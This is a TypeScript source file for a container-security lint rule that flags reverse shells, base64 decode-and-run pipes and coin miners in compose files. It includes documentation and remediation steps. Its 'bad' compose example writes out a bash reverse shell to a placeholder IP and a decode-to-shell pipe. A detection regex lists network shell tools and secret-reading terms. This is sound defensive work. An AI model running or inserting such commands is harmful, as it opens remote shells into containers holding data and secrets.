import { givenAt, startedCommands } from '../../../analysis/commands/container-commands.ts';
import type { Container } from '../../../model/containers/container.ts';
import { defineRule } from '../../define-rule.ts';
import { hiddenIn, saysItMines } from './hidden-code.ts';

export default defineRule({
  id: 'command-hidden-code',
  on: 'container',
  danger: { attacker: 'network', reach: 'service' },
  profile: 'recommended',
  precision: 'high',
  cwe: [506],
  docs: {
    title: 'Do not start containers with code that hides what it does',
    why: 'A shell whose input and output are a network connection, code that is decoded and run at once, and a program that mines coins: attackers leave these behind in a compose file or a script that they managed to change. At each start they are in the container, with its data and its secrets, and in the networks that it is in.',
    how: 'Find out who added the line and why, and treat the service as compromised until you know. If it is intended, put the plain code into a file of the repository.',
    limits:
      'The rule reads entrypoint, command, health check, hooks, variables that programs run as commands, such as `GIT_SSH_COMMAND`, what `docker exec` runs, and scripts of the repository that are mounted and started, or given to a shell in it, and not scripts in the image. A program that mines is left alone where the name, the image or the path of the file says so. Decoding data into a file is left alone, as are connections that only test whether a port is open. `obfuscated-exec` reports the same in Dockerfiles.',
    ways: [
      {
        do: 'Stop the container, keep a copy with `docker commit` and its logs, and find out with `git log -S` who added the line.',
        trap: 'The name in a commit proves little: the account may be stolen, so ask the person.',
      },
      {
        do: 'Replace each secret, token and key that the container had, and look at what it could reach in its networks.',
        trap: 'Replace them after the line is gone, or the new ones are stolen as well.',
      },
      {
        do: 'If the code is intended, put it as plain text into a file of the repository, and mount or copy that.',
        trap: 'Reviewers have to read that file as well: it must not download its real work.',
      },
    ],
    verify: {
      run: "docker inspect -f '{{json .Config.Entrypoint}} {{json .Config.Cmd}}' NAME",
      prints: 'A program and options that everyone can read, without `base64 -d`, `eval` or `/dev/tcp`.',
    },
    references: [
      'https://attack.mitre.org/techniques/T1027/',
      'https://attack.mitre.org/techniques/T1059/004/',
      'https://cwe.mitre.org/data/definitions/506.html',
    ],
  },
  examples: [
    {
      file: 'compose.yaml',
      bad: `
        services:
          app:
            image: ghcr.io/acme/app:1.4
            command: bash -c "«bash -i >& /dev/tcp/203.0.113.7/443 0>&1»"
          job:
            image: ghcr.io/acme/job:1.4
            entrypoint: ["sh", "-c", "«echo ZWNobyBoZWxsbwo= | base64 -d | sh»"]
      `,
      good: `
        services:
          app:
            image: ghcr.io/acme/app:1.4
            command: bash -c "timeout 5 bash -c '</dev/tcp/db/5432' && exec app"
          job:
            image: ghcr.io/acme/job:1.4
            entrypoint: ["sh", "-c", "echo aGVsbG8K | base64 -d > /greeting && exec job"]
      `,
    },
  ],

  *check(container) {
    const mayMine = isMiner(container);
    for (const commands of startedCommands(container, (text) => WORDS.test(text))) {
      for (const { at, how } of hiddenIn(commands.script, { mayMine }))
        yield { at, message: `Container "${container.name}" ${how}, ${commands.when}.`, related: givenAt(commands) };
    }
  },
});

/** Whether its name, its image or the path of its file says that it mines. */
function isMiner({ name, image, file }: Container): boolean {
  return saysItMines([name, image?.reference.value.text ?? '', file.path]);
}

const WORDS =
  /xmr|miner|t-rex|stratum\+|base(?:64|32)|openssl|xxd|uudecode|\brev\b|\btr\b|\/dev\/(?:tcp|udp)|\bn(?:et)?cat\b|\bnc\b|socat|socket|\benv\b|printenv|environ|\bexport\b|\/secrets|\/\.[a-z]|\/inet\/|pwsh|powershell|\s-[dft]\s|--(?:data|form|json|post|body|upload)/i;
